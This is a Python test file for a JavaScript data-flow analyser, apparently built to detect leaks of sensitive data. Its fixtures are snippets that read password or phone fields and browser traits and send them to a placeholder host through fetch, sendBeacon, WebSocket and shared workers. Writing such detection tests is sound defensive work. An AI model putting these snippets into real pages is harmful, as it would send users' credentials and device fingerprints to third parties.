"""Flows of data from source to sink."""

from __future__ import annotations

import time

import pytest
from flow_helper import Case, cases, decoded_flows_of, flows_of, program, sends
from hypothesis import given, settings
from hypothesis import strategies as st

from undertow.analysis.coarse import Coarse

CASES = cases(known_to_fail=False)
MISSES = cases(known_to_fail=True)
PHONE = "document.querySelector('input[type=tel]').value"


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_exactly_the_stated_data_is_sent_when_a_small_program_runs(case: Case) -> None:
    assert sends(flows_of(case.source)) == set(case.sends)


@pytest.mark.parametrize(
    "case", [pytest.param(c, marks=pytest.mark.xfail(strict=True, reason=c.miss), id=c.name) for c in MISSES]
)
def test_known_misses(case: Case) -> None:
    assert sends(flows_of(case.source)) == set(case.sends)


def test_about_as_many_near_misses_as_flows_are_tried() -> None:
    silent = sum(not case.sends for case in CASES)
    assert len(CASES) // 3 < silent < len(CASES) * 2 // 3


@pytest.mark.parametrize(("kept", "expected"), [("o.p", {"password>h.example"}), ("o.q", set())])
def test_a_flow_is_found_when_what_is_set_stands_in_brackets(kept: str, expected: set[str]) -> None:
    source = f"const o={{}};(({kept})=document.querySelector('input[type=password]').value);"
    assert sends(decoded_flows_of((source + "fetch('https://h.example/',{body:o.p})").encode())) == expected


@pytest.mark.parametrize(("kept", "expected"), [("m.data", {"password>h.example"}), ("m.type", set())])
def test_what_is_posted_to_a_shared_worker_is_followed(kept: str, expected: set[str]) -> None:
    code = "onconnect = (c) => { c.ports[0].onmessage = (m) => fetch('https://h.example/', {body: KEPT}); }"
    code = code.replace("KEPT", kept)
    source = f'const w = new SharedWorker(URL.createObjectURL(new Blob(["{code}"])));'
    source += "w.port.postMessage(document.querySelector('input[type=password]').value)"
    assert sends(decoded_flows_of(source.encode())) == expected


def test_a_way_through_a_message_for_other_code_is_told_as_coarse_and_hides_no_second_way() -> None:
    """The search ends at the first way it finds; what speaks against that one says nothing of others."""
    handler = "b.onmessage=({data})=>{if(data.type==='save')fetch('https://h.example/',{body:data.v})};"
    source = f"const b=new BroadcastChannel('x');{handler}const p={PHONE};POSTS"
    log, save = "b.postMessage({type:'log',v:p});", "b.postMessage({type:'save',v:p});"
    (flow,) = flows_of(source.replace("POSTS", log).encode()).flows
    assert (flow.data, flow.host, flow.tier) == ("phone", "h.example", "coarse")
    for both in (log + save, save + log):
        assert {(f.data, f.host) for f in flows_of(source.replace("POSTS", both).encode()).flows} == {
            ("phone", "h.example")
        }


def test_spans_are_those_of_the_read_the_call_and_the_function_around_it_when_a_flow_is_found() -> None:
    source = f"function send(d) {{ fetch('https://h.example/', {{body: d}}); }}\nsend({PHONE});".encode()
    (flow,) = flows_of(source).flows
    assert source[slice(*flow.source_span)].decode() == PHONE
    assert source[slice(*flow.sink_span)].startswith(b"fetch(")
    assert source[slice(*flow.function_span)].startswith(b"function send(d)")


def test_the_function_is_the_whole_script_when_the_sink_stands_at_top_level() -> None:
    source = f"fetch('https://h.example/', {{body: {PHONE}}})".encode()
    (flow,) = flows_of(source).flows
    assert flow.function_span == (0, len(source))


def test_the_path_leads_from_read_to_sink() -> None:
    source = f"function send(d) {{ fetch('https://h.example/', {{body: d}}); }}\nsend({PHONE});".encode()
    (flow,) = flows_of(source).flows
    assert [step.what for step in flow.path] == [
        "read of value of input[type=tel]",
        "argument 1 of send()",
        "kept as body",
        "argument 2 of fetch()",
        "options of fetch",
    ]


def test_host_is_empty_when_the_address_is_relative() -> None:
    (flow,) = flows_of(f"fetch('/api/login', {{body: {PHONE}}})".encode()).flows
    assert (flow.url, flow.host) == ("/api/login", "")


def test_host_is_none_and_the_url_has_holes_when_the_address_is_partly_unknown() -> None:
    (flow,) = flows_of(f"function f(base) {{ fetch(base + '/x', {{body: {PHONE}}}) }}".encode()).flows
    assert (flow.url, flow.host) == ("{}/x", None)


def test_host_is_empty_when_the_address_is_built_from_the_page_s_own_location() -> None:
    source = f"new WebSocket('wss://' + location.host + '/s?p=' + {PHONE})".encode()
    assert {flow.host for flow in flows_of(source).flows} == {""}


def test_each_destination_is_a_flow_when_the_address_has_alternatives() -> None:
    source = f"fetch(eu ? 'https://eu.example/' : 'https://us.example/', {{body: {PHONE}}})".encode()
    assert sends(flows_of(source)) == {"phone>eu.example", "phone>us.example"}


def test_every_trait_is_named_when_several_go_the_same_way() -> None:
    source = b"const d = {a: navigator.platform, b: screen.width, c: navigator.vendor};" + (
        b"navigator.sendBeacon('https://h.example/', JSON.stringify(d))"
    )
    assert {f.source for f in flows_of(source).flows} == {"navigator.platform", "screen.width", "navigator.vendor"}


def test_functions_from_which_a_sink_is_reached_are_listed_and_others_are_not() -> None:
    source = b"function a(){fetch('/x')} function b(){a()} function c(){b.name} el.onclick = function d(){b()}"
    listed = {source[slice(*span)].split(b"(")[0].decode() for span in flows_of(source).network_functions}
    assert listed == {"function a", "function b", "function d"}


def test_nothing_is_found_when_data_never_meets_a_sink() -> None:
    result = flows_of(f"const p = {PHONE}; show(p); fetch('https://h.example/')".encode())
    assert result.flows == () and len(result.sinks) == 1 and result.gaps == ()


def test_a_located_gap_says_so_when_the_budget_ends_the_search(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("undertow.analysis.flow_search.STATES", 3)
    monkeypatch.setattr("undertow.analysis.flow_search.STATES_PER_BYTE", 0)
    result = flows_of(f"const a={PHONE},b=a,c=b,d=c;fetch('https://h.example/',{{body:d}})".encode())
    (gap,) = result.gaps
    assert (gap.kind, gap.where, gap.hides_findings) == ("flow-budget", "test.js", True)
    assert "1 place that sends" in gap.why
    assert {(f.data, f.tier) for f in result.flows} == {("phone", "coarse")}


def test_the_answer_is_the_same_when_asked_twice() -> None:
    source = b"\n".join(case.source for case in CASES[:30])
    assert flows_of(source).flows == flows_of(source).flows


_PIECES = st.sampled_from([
    "a", "b", "f", "x.y", "x[k]", "(a)=>b", "function(){}", "{a:b,...c}", "[a,b]=[b,a]", "new X()", "fetch(a)", ";",
    "navigator.userAgent", "document.cookie", "a=b", "a.b=c", "return a", "var a=b;", "class A{m(){this.a=b}}", ",",
    "await f()", "x.then(f)", "f.call(a,b)", "f.apply(a,b)", "`${a}`", "+", "(", ")", "{", "}", "if(a){b}",
    "for(var x of a)b", "switch(a){case 1:b}", "try{a}catch(e){b}", "exports.a=b", "n.d(t,{a:()=>b})", "await (a)",
])  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(_PIECES, max_size=25))
def test_no_text_makes_it_fail(pieces: list[str]) -> None:
    source = " ".join(pieces).encode()
    result = flows_of(source)
    for flow in result.flows:
        assert 0 <= flow.sink_span[0] < flow.sink_span[1] <= len(source)


@pytest.mark.parametrize(
    "source",
    [
        b"a=" * 2000 + b"navigator.userAgent;fetch('https://h.example/',{body:a})",
        b"function f(x){return f(f(x))} fetch('https://h.example/',{body:f(navigator.userAgent)})",
        b"var a=b,b=a;a.a=a;a.b=navigator.userAgent;fetch('https://h.example/',{body:JSON.stringify(a)})",
        b"class A extends A{} class B extends C{} class C extends B{} new B().x(navigator.userAgent);fetch('/x')",
        b"var o={get a(){return o.a}};fetch(o.a,{body:navigator.userAgent+o.a})",
    ],
)
def test_it_ends_when_definitions_are_circular_or_chained_for_long(source: bytes) -> None:
    assert flows_of(source).states < 5_000


@pytest.mark.parametrize(
    "code",
    [
        "".join(f"fetch('https://h{i}.example/', {{body: {PHONE}}});" for i in range(1_500)),
        "var o = {};" + "".join(f"o.k{i} = navigator.userAgent;" for i in range(3_000)) + "fetch('/x', {body: o.k1})",
        "var o = {"
        + ",".join(f"m{i}(x) {{ return x }}" for i in range(2_000))
        + "};"
        + "".join(f"o.m{i}(navigator.userAgent);" for i in range(2_000))
        + "fetch('/x', {body: o.m1()})",
    ],
    ids=["many places that send", "many writes to one variable", "many members of one object"],
)
def test_cost_grows_with_the_script_and_not_with_its_square(code: str) -> None:
    before = time.process_time()
    flows_of(code.encode())
    assert time.process_time() - before < 20, "seconds of processor time; a square would take a minute or more"


def test_a_closure_that_calls_itself_is_searched_once_and_not_for_each_level() -> None:
    walk = "function o(i){if(typeof i!='object')return i;if(Array.isArray(i))return i.map(x=>o(x));var h={};"
    walk += "for(var k in i)h[k]=o(i[k]);return h}"
    code = f"function safe(v){{{walk}return o(v)}} fetch('https://h.example/', {{body: JSON.stringify(safe(X))}})"
    result = flows_of(code.replace("X", "{a: [navigator.userAgent]}").encode())
    assert sends(result) == {"device>h.example"}
    assert not result.gaps and result.states < 400
    assert sends(flows_of(code.replace("X", "{a: [navigator.userAgent.length > 3]}").encode())) == set()


def _asked_for_many_properties(read: str) -> bytes:
    """One function, a long way from its parameter to what it returns, asked for each property of that."""
    way = ",".join(f"v{i + 1}=v{i}" for i in range(30))
    made = ",".join(f"k{i}:v30" for i in range(30))
    asked = ",".join(f"f(g).k{i}" for i in range(30))
    code = f"function f(x){{var v0=x.q,{way};return {{{made}}}}} var g={{q:{read}}};"
    return f"{code}fetch('https://h.example/', {{body: [{asked}].join()}})".encode()


def test_what_the_exact_search_has_not_ended_is_ended_with_all_callers_together(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("undertow.analysis.flow_search.STATES", 1_000)
    monkeypatch.setattr("undertow.analysis.flow_search.STATES_PER_BYTE", 0)
    monkeypatch.setattr("undertow.analysis.flow_search.FIRST", 100)
    monkeypatch.setattr("undertow.analysis.flow_search.MERGED", 0)
    alone = flows_of(_asked_for_many_properties("navigator.userAgent"))
    assert [gap.kind for gap in alone.gaps] == ["flow-budget"]  # there may be more to find, as far as it knows
    monkeypatch.setattr("undertow.analysis.flow_search.MERGED", 0.65)
    merged = flows_of(_asked_for_many_properties("navigator.userAgent"))
    assert sends(merged) == {"device>h.example"} and not merged.gaps
    other = flows_of(_asked_for_many_properties("1,r:navigator.userAgent"))
    assert sends(other) == set() and not other.gaps


def test_a_return_outside_of_any_function_is_no_failure_when_the_code_is_broken() -> None:
    p = program("(function(){ switch(x){case(1):return;\nf(1);")
    assert not Coarse(p).forward([]).any()
